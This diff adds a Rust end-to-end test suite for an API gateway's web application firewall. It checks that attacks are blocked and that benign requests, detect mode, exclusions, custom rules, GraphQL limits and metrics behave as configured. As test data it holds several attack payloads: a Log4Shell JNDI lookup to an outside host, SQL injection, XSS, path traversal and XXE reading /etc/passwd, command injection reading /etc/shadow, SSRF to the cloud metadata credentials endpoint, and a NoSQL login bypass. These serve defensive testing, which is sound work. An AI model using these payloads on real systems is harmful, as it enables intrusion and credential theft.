@@ -1,0 +1,616 @@
+//! The WAF end to end through the real binary: attacks in every place a client can put them
+//! (query, path, header, cookie, JSON, form, multipart, XML, chunked bodies) are refused with a
+//! generic 403 problem that reaches no upstream; benign requests pass with their bodies intact;
+//! detect mode, `off`, exclusions, custom rules, API-abuse limits and the body inspection
+//! limit behave as configured; every verdict is explained in the audit event and counted in
+//! metrics.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+async fn setup() -> (Gateway, TestUpstream) {
+    let up = TestUpstream::start("app").await;
+    let yaml = format!(
+        r#"listeners: [{{ name: public, address: "127.0.0.1:0" }}]
+admin: {{ address: "127.0.0.1:0" }}
+upstreams: {{ app: {{ targets: ["{up}"] }} }}
+waf:
+  exclusions:
+    - {{ classes: [sqli], targets: ["query:sql_ok"] }}
+  custom_rules:
+    - {{ id: 100001, description: "debug switch from outside", targets: ["header:x-debug"], operator: {{ equals: "on" }}, action: block, severity: notice }}
+routes:
+  - {{ name: detect, match: {{ prefix: /detect }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ mode: detect }} }}
+  - name: iptest
+    match: {{ prefix: /iptest }}
+    upstream: app
+    auth: {{ anonymous: true }}
+    waf:
+      custom_rules:
+        - {{ id: 100002, description: "loopback client", targets: [client_ip], operator: {{ ip_in: [127.0.0.0/8] }}, severity: notice }}
+  - {{ name: off, match: {{ prefix: /off }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ mode: off }} }}
+  - name: notes
+    match: {{ prefix: /notes }}
+    upstream: app
+    auth: {{ anonymous: true }}
+    waf:
+      exclusions: [{{ rules: [], targets: ["body:$.description"] }}]
+  - {{ name: small, match: {{ prefix: /small }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ inspect_body_bytes: 64 }} }}
+  - {{ name: pass, match: {{ prefix: /pass }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ inspect_body_bytes: 64, on_body_over_limit: pass }} }}
+  - name: graphql
+    match: {{ path: /graphql }}
+    upstream: app
+    auth: {{ anonymous: true }}
+    waf: {{ api: {{ graphql: {{ max_depth: 4, max_aliases: 3 }} }} }}
+  - {{ name: api, match: {{ prefix: / }}, upstream: app, auth: {{ anonymous: true }} }}
+"#,
+        up = up.url(),
+    );
+    (Gateway::start(bin(), &yaml).unwrap(), up)
+}
+
+async fn call(
+    gw: &Gateway,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: &str,
+) -> Resp {
+    send(req(
+        method,
+        &format!("{}{path}", gw.url("public")),
+        headers,
+        body,
+    ))
+    .await
+}
+
+/// A blocked request: generic 403 problem (no rule, no payload), audit explains it.
+fn assert_blocked(gw: &Gateway, r: &Resp, payload_marker: &str) -> serde_json::Value {
+    let v = assert_problem(r, 403, "waf_blocked");
+    let text = r.text();
+    assert!(
+        !text.contains(payload_marker),
+        "the problem body echoes the payload: {text}"
+    );
+    for word in ["rule", "sqli", "xss", "score"] {
+        assert!(
+            !text.to_lowercase().contains(word),
+            "the problem body explains too much: {text}"
+        );
+    }
+    let ev = audit_of(gw, v["request_id"].as_str().unwrap());
+    assert_eq!(ev["reason"], "waf_blocked", "{ev}");
+    assert_eq!(ev["stage"], "waf", "{ev}");
+    let waf = &ev["waf"];
+    assert_eq!(waf["mode"], "block", "{ev}");
+    assert_eq!(waf["blocked"], true, "{ev}");
+    // Over the threshold, or a custom rule that blocks outright.
+    assert!(
+        waf["score"].as_u64().unwrap() >= waf["threshold"].as_u64().unwrap()
+            || matches(&ev).iter().any(|m| m["class"] == "custom"),
+        "{ev}"
+    );
+    ev
+}
+
+fn matches(ev: &serde_json::Value) -> Vec<serde_json::Value> {
+    ev["waf"]["matches"].as_array().cloned().unwrap_or_default()
+}
+
+fn has_match(ev: &serde_json::Value, class: &str, target: &str) -> bool {
+    matches(ev)
+        .iter()
+        .any(|m| m["class"] == class && m["target"] == target && m["excluded"].is_null())
+}
+
+/// (method, path, headers, body, a piece of the payload, expected class, expected target)
+type Case<'a> = (
+    &'a str,
+    String,
+    Vec<(&'a str, &'a str)>,
+    String,
+    &'a str,
+    &'a str,
+    &'a str,
+);
+
+#[tokio::test]
+async fn attacks_everywhere_are_refused_before_any_upstream() {
+    let (gw, up) = setup().await;
+    let cases: Vec<Case> = vec![
+        // (method, path, headers, body, marker, class, target)
+        (
+            "GET",
+            "/items?id=1%27%20OR%20%271%27%3D%271".into(),
+            vec![],
+            String::new(),
+            "OR '1'='1",
+            "sqli",
+            "query:id",
+        ),
+        (
+            "GET",
+            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E".into(),
+            vec![],
+            String::new(),
+            "alert(",
+            "xss",
+            "query:q",
+        ),
+        (
+            "GET",
+            "/items".into(),
+            vec![("x-api-version", "${jndi:ldap://198.51.100.7/a}")],
+            String::new(),
+            "jndi",
+            "log4shell",
+            "header:x-api-version",
+        ),
+        (
+            "GET",
+            "/items".into(),
+            vec![("cookie", "theme=dark; file=../../../../etc/passwd")],
+            String::new(),
+            "etc/passwd",
+            "traversal",
+            "cookie:file",
+        ),
+        (
+            "POST",
+            "/orders".into(),
+            vec![("content-type", "application/json")],
+            r#"{"order":{"note":"<img src=x onerror=alert(1)>","qty":1}}"#.into(),
+            "onerror",
+            "xss",
+            "body:$.order.note",
+        ),
+        (
+            "POST",
+            "/ping".into(),
+            vec![("content-type", "application/x-www-form-urlencoded")],
+            "host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow".into(),
+            "shadow",
+            "command-injection",
+            "body:host",
+        ),
+        (
+            "POST",
+            "/fetch".into(),
+            vec![("content-type", "application/json")],
+            r#"{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#.into(),
+            "169.254",
+            "ssrf",
+            "body:$.url",
+        ),
+        (
+            "POST",
+            "/import".into(),
+            vec![("content-type", "application/xml")],
+            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into(),
+            "ENTITY",
+            "xxe",
+            "body:!DOCTYPE",
+        ),
+        (
+            "POST",
+            "/login".into(),
+            vec![("content-type", "application/json")],
+            r#"{"user":"admin","password":{"$ne":null}}"#.into(),
+            "$ne",
+            "nosql",
+            "body:$.password['$ne'] (name)",
+        ),
+        (
+            "POST",
+            "/upload".into(),
+            vec![("content-type", "multipart/form-data; boundary=XyZ")],
+            "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n' UNION SELECT password FROM users--\r\n--XyZ--\r\n".into(),
+            "UNION",
+            "sqli",
+            "body:title",
+        ),
+    ];
+    for (method, path, headers, body, marker, class, target) in cases {
+        let before = up.hits();
+        let r = call(&gw, method, &path, &headers, &body).await;
+        let ev = assert_blocked(&gw, &r, marker);
+        assert!(
+            has_match(&ev, class, target),
+            "{method} {path}: expected a {class} match on {target}: {:#}",
+            ev["waf"]
+        );
+        for m in matches(&ev) {
+            assert!(m["rule"].as_u64().unwrap() >= 1000, "{m}");
+            assert!(!m["transforms"].as_str().unwrap().is_empty(), "{m}");
+            assert!(m["snippet"].as_str().unwrap().chars().count() <= 65, "{m}");
+        }
+        assert_eq!(up.hits(), before, "{method} {path} reached the upstream");
+    }
+}
+
+#[tokio::test]
+async fn benign_requests_pass_with_bodies_intact() {
+    let (gw, up) = setup().await;
+    let r = call(
+        &gw,
+        "GET",
+        "/items?q=O%27Brien%27s%20select%20shoes&sort=price&page=2&tags=a,b",
+        &[
+            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
+            ("referer", "https://shop.example/?a=1&b=2"),
+        ],
+        "",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let body = r#"{"name":"Dr. Ann O'Neil","address":"12, rue de l'Église","comment":"Please deliver after 5pm -- ring twice; thanks!","items":[{"sku":"A-12","qty":2}]}"#;
+    let r = call(
+        &gw,
+        "POST",
+        "/orders",
+        &[("content-type", "application/json")],
+        body,
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let got = up
+        .requests()
+        .into_iter()
+        .find(|q| q.path() == "/orders")
+        .unwrap();
+    assert_eq!(
+        got.body.as_ref(),
+        body.as_bytes(),
+        "the inspected body reaches the upstream unchanged"
+    );
+    // Binary uploads are not inspected.
+    let r = call(
+        &gw,
+        "POST",
+        "/avatar",
+        &[("content-type", "image/png")],
+        "\u{89}PNG ' OR 1=1 -- <script>",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+}
+
+#[tokio::test]
+async fn detect_mode_records_without_refusing_and_off_does_nothing() {
+    let (gw, up) = setup().await;
+    let r = call(
+        &gw,
+        "GET",
+        "/detect/x?id=1%20union%20select%20password%20from%20users",
+        &[],
+        "",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    assert_eq!(up.requests().last().unwrap().path(), "/detect/x");
+    let id = r.header("x-request-id").unwrap().to_string();
+    let ev = audit_of(&gw, &id);
+    assert_eq!(ev["waf"]["mode"], "detect", "{ev}");
+    assert_eq!(ev["waf"]["blocked"], true, "would have been blocked: {ev}");
+    assert!(ev["reason"].is_null(), "{ev}");
+    assert!(has_match(&ev, "sqli", "query:id"), "{ev}");
+
+    let r = call(
+        &gw,
+        "GET",
+        "/off/x?id=1%20union%20select%20password%20from%20users",
+        &[],
+        "",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200);
+    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
+    assert!(ev["waf"].is_null(), "mode off inspects nothing: {ev}");
+}
+
+#[tokio::test]
+async fn exclusions_fix_false_positives_per_target_only() {
+    let (gw, up) = setup().await;
+    let attack = "1%27%20or%20%271%27%3D%271";
+    // Gateway-wide: sqli rules off for query:sql_ok …
+    let r = call(&gw, "GET", &format!("/items?sql_ok={attack}"), &[], "").await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
+    assert!(
+        matches(&ev)
+            .iter()
+            .any(|m| m["class"] == "sqli" && m["excluded"] == true),
+        "excluded matches are still recorded: {ev}"
+    );
+    // … but not for another parameter.
+    let before = up.hits();
+    let r = call(&gw, "GET", &format!("/items?other={attack}"), &[], "").await;
+    assert_blocked(&gw, &r, "or '1'");
+    assert_eq!(up.hits(), before);
+    // Route-level: every rule off for body:$.description on /notes, not for $.title.
+    let r = call(
+        &gw,
+        "POST",
+        "/notes",
+        &[("content-type", "application/json")],
+        r#"{"description":"<script>alert(1)</script> is how XSS looks"}"#,
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let r = call(
+        &gw,
+        "POST",
+        "/notes",
+        &[("content-type", "application/json")],
+        r#"{"title":"<script>alert(1)</script>"}"#,
+    )
+    .await;
+    assert_blocked(&gw, &r, "<script>");
+}
+
+#[tokio::test]
+async fn custom_rules_score_or_block() {
+    let (gw, up) = setup().await;
+    // 100002 (client_ip in 127/8, notice = 2) matches every request to /iptest but stays
+    // below 5.
+    let r = call(&gw, "GET", "/iptest", &[], "").await;
+    assert_eq!(r.status.as_u16(), 200);
+    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
+    let m = matches(&ev);
+    assert!(
+        m.iter()
+            .any(|m| m["rule"] == 100002 && m["target"] == "client_ip"),
+        "{ev}"
+    );
+    assert_eq!(ev["waf"]["score"], 2, "{ev}");
+    assert_eq!(ev["waf"]["blocked"], false, "{ev}");
+    // 100001 blocks outright whatever its severity.
+    let before = up.hits();
+    let r = call(&gw, "GET", "/items", &[("x-debug", "on")], "").await;
+    let ev = assert_blocked(&gw, &r, "x-debug");
+    assert!(
+        matches(&ev)
+            .iter()
+            .any(|m| m["rule"] == 100001 && m["target"] == "header:x-debug"),
+        "{ev}"
+    );
+    assert_eq!(up.hits(), before);
+}
+
+#[tokio::test]
+async fn api_abuse_limits() {
+    let (gw, up) = setup().await;
+    let before = up.hits();
+    // GraphQL depth over 4.
+    let deep = r#"{"query":"{ a { b { c { d { e { f } } } } } }"}"#;
+    let r = call(
+        &gw,
+        "POST",
+        "/graphql",
+        &[("content-type", "application/json")],
+        deep,
+    )
+    .await;
+    let ev = assert_blocked(&gw, &r, "{ a");
+    assert!(
+        matches(&ev).iter().any(|m| m["class"] == "api-abuse"),
+        "{ev}"
+    );
+    // Aliases over 3.
+    let aliases = r#"{"query":"{ a1: me { id } a2: me { id } a3: me { id } a4: me { id } }"}"#;
+    let r = call(
+        &gw,
+        "POST",
+        "/graphql",
+        &[("content-type", "application/json")],
+        aliases,
+    )
+    .await;
+    assert_blocked(&gw, &r, "a4");
+    // Mass assignment and parameter pollution on ordinary routes.
+    let r = call(
+        &gw,
+        "POST",
+        "/users",
+        &[("content-type", "application/json")],
+        r#"{"name":"eve","role":"admin"}"#,
+    )
+    .await;
+    let ev = assert_blocked(&gw, &r, "admin");
+    assert!(
+        matches(&ev).iter().any(|m| m["class"] == "mass-assignment"),
+        "{ev}"
+    );
+    let r = call(&gw, "GET", "/items?id=1&id=2", &[], "").await;
+    let ev = assert_blocked(&gw, &r, "id=2");
+    assert!(
+        matches(&ev)
+            .iter()
+            .any(|m| m["class"] == "parameter-pollution"),
+        "{ev}"
+    );
+    assert_eq!(up.hits(), before, "no abusive request reached the upstream");
+    // A reasonable GraphQL query passes.
+    let ok = r#"{"query":"query Q($id: ID!) { order(id: $id) { id items { sku } } }","variables":{"id":"1"}}"#;
+    let r = call(
+        &gw,
+        "POST",
+        "/graphql",
+        &[("content-type", "application/json")],
+        ok,
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+}
+
+#[tokio::test]
+async fn malformed_and_oversized_bodies() {
+    let (gw, up) = setup().await;
+    let before = up.hits();
+    // A body that does not parse as its declared type cannot be inspected: refused.
+    let r = call(
+        &gw,
+        "POST",
+        "/orders",
+        &[("content-type", "application/json")],
+        r#"{"a": [1, 2"#,
+    )
+    .await;
+    let ev = assert_blocked(&gw, &r, "[1, 2");
+    assert!(matches(&ev).iter().any(|m| m["rule"] == 1001), "{ev}");
+    // Over the inspection limit: 413 by default …
+    let big = format!(r#"{{"text":"{}"}}"#, "a".repeat(200));
+    let r = call(
+        &gw,
+        "POST",
+        "/small",
+        &[("content-type", "application/json")],
+        &big,
+    )
+    .await;
+    let v = assert_problem(&r, 413, "body_too_large");
+    assert!(v["detail"].as_str().unwrap().contains("inspect"), "{v}");
+    assert_eq!(up.hits(), before);
+    // … or passed whole, uninspected, with a recorded finding.
+    let r = call(
+        &gw,
+        "POST",
+        "/pass",
+        &[("content-type", "application/json")],
+        &big,
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let got = up
+        .requests()
+        .into_iter()
+        .find(|q| q.path() == "/pass")
+        .unwrap();
+    assert_eq!(
+        got.body.as_ref(),
+        big.as_bytes(),
+        "the whole body, read part and rest"
+    );
+    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
+    assert!(matches(&ev).iter().any(|m| m["rule"] == 1004), "{ev}");
+}
+
+/// A chunked body (no Content-Length) is buffered and inspected like any other.
+#[tokio::test]
+async fn chunked_bodies_are_inspected() {
+    let (gw, up) = setup().await;
+    let mut s = tokio::net::TcpStream::connect(gw.listener("public"))
+        .await
+        .unwrap();
+    let chunk1 = r#"{"q":"1' UNION "#;
+    let chunk2 = r#"SELECT password FROM users--"}"#;
+    let raw = format!(
+        "POST /orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{chunk1}\r\n{:x}\r\n{chunk2}\r\n0\r\n\r\n",
+        chunk1.len(),
+        chunk2.len()
+    );
+    s.write_all(raw.as_bytes()).await.unwrap();
+    let mut out = Vec::new();
+    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out))
+        .await
+        .unwrap()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out);
+    assert!(text.starts_with("HTTP/1.1 403"), "{text}");
+    assert!(text.contains("waf_blocked"), "{text}");
+    assert_eq!(up.hits(), 0);
+}
+
+#[tokio::test]
+async fn matches_are_counted_in_metrics() {
+    let (gw, _up) = setup().await;
+    let r = call(
+        &gw,
+        "GET",
+        "/items?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        &[],
+        "",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 403);
+    let m = get(&format!("{}/metrics", gw.admin_url())).await.text();
+    assert!(
+        m.lines()
+            .any(|l| l.starts_with("portcullis_waf_matches_total{")
+                && l.contains("class=\"xss\"")
+                && l.contains("mode=\"block\"")),
+        "{m}"
+    );
+    assert!(
+        m.lines()
+            .any(|l| l.starts_with("portcullis_waf_requests_total{")
+                && l.contains("route=\"api\"")
+                && l.contains("outcome=\"blocked\"")),
+        "{m}"
+    );
+}
+
+/// WAF hits from a client address raise the risk score authorization computes for it.
+#[tokio::test]
+async fn waf_hits_feed_the_risk_score() {
+    const KEY: &str = "pk_live_0123456789abcdef0123456789abcdef";
+    let hash: String = ring::digest::digest(&ring::digest::SHA256, KEY.as_bytes())
+        .as_ref()
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let up = TestUpstream::start("app").await;
+    let yaml = format!(
+        r#"listeners: [{{ name: public, address: "127.0.0.1:0" }}]
+admin: {{ address: "127.0.0.1:0" }}
+upstreams: {{ app: {{ targets: ["{up}"] }} }}
+auth:
+  api_keys:
+    keys: [{{ hash: "sha256:{hash}", client_id: shop }}]
+authz:
+  risk: {{ weights: {{ weak_authentication: 0 }} }}
+routes:
+  - name: account
+    match: {{ prefix: /account }}
+    upstream: app
+    auth: {{ methods: [api_key] }}
+    authz: {{ allow: any-authenticated, risk: {{ deny: 40 }} }}
+  - {{ name: public, match: {{ prefix: / }}, upstream: app, auth: {{ anonymous: true }} }}
+"#,
+        up = up.url(),
+    );
+    let gw = Gateway::start(bin(), &yaml).unwrap();
+    let key = [("x-api-key", KEY)];
+    let r = call(&gw, "GET", "/account", &key, "").await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    // An attack from this address, on another route …
+    let r = call(
+        &gw,
+        "GET",
+        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        &[],
+        "",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 403);
+    // … and its authenticated requests now score 40: refused by the risk rule.
+    let before = up.hits();
+    let r = call(&gw, "GET", "/account", &key, "").await;
+    let v = assert_problem(&r, 403, "forbidden");
+    let ev = audit_of(&gw, v["request_id"].as_str().unwrap());
+    assert_eq!(ev["authz"]["rule"], "risk", "{ev}");
+    assert_eq!(ev["authz"]["risk"], 40, "{ev}");
+    assert_eq!(
+        ev["authz"]["risk_signals"],
+        serde_json::json!(["waf_hits"]),
+        "{ev}"
+    );
+    assert_eq!(up.hits(), before);
+}
